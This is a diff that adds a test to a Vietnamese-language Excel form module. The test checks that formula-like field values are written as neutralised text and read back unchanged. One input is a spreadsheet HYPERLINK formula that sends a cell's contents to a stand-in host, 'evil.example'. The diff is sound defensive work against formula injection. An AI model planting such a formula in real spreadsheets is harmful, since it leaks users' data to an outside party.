@@ -164,6 +164,41 @@ describe('Biểu mẫu 1 Excel template', () => {
     expect(parsed.input.lists.leaders?.[0]?.position_code).toBe('CT');
   });
 
+  it('writes formula-like text as neutralised text (RELIABILITY check 20) and reads it back unchanged', async () => {
+    const formulas: FlatBody = {
+      ...values,
+      name: '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
+      purpose: '+SUM(1,2)\nDòng hai',
+      abbreviation: '-2+3',
+      foreign_name: '@cmd',
+      hq_address: "'=already quoted",
+      other_identifiers: "''+twice",
+      'leaders.0.full_name': '=1+1',
+      'offices.0.address': '@SUM(A1)',
+    };
+    const buffer = await formTemplateWorkbook({ catalogues, title: formulas.name as string }, formulas);
+    const wb = new ExcelJS.Workbook();
+    await wb.xlsx.load(buffer as unknown as ExcelJS.Buffer);
+    const main = wb.getWorksheet(MAIN_SHEET) as ExcelJS.Worksheet;
+    const cellOf = (key: string) => {
+      let value: ExcelJS.CellValue = null;
+      main.eachRow((row) => {
+        if (row.getCell(4).value === key) value = row.getCell(2).value;
+      });
+      return value as ExcelJS.CellValue;
+    };
+    for (const key of ['name', 'purpose', 'abbreviation', 'foreign_name', 'hq_address', 'other_identifiers']) {
+      const cell = cellOf(key);
+      expect(typeof cell, key).toBe('string'); // a string cell, not { formula }
+      expect(cell, key).toBe(`'${formulas[key]}`);
+    }
+    const leaders = wb.getWorksheet(sheetName('Lãnh đạo hội')) as ExcelJS.Worksheet;
+    expect(leaders.getCell(3, 1).value).toBe("'=1+1");
+    const offices = wb.getWorksheet(sheetName('Văn phòng đại diện')) as ExcelJS.Worksheet;
+    expect(offices.getCell(3, 1).value).toBe("'@SUM(A1)");
+    expect(await readFormWorkbook(buffer)).toEqual({ ok: true, values: formulas });
+  });
+
   it('refuses a file that is not the template, in Vietnamese', async () => {
     expect(await readFormWorkbook(Buffer.from('not a workbook'))).toEqual({
       ok: false,
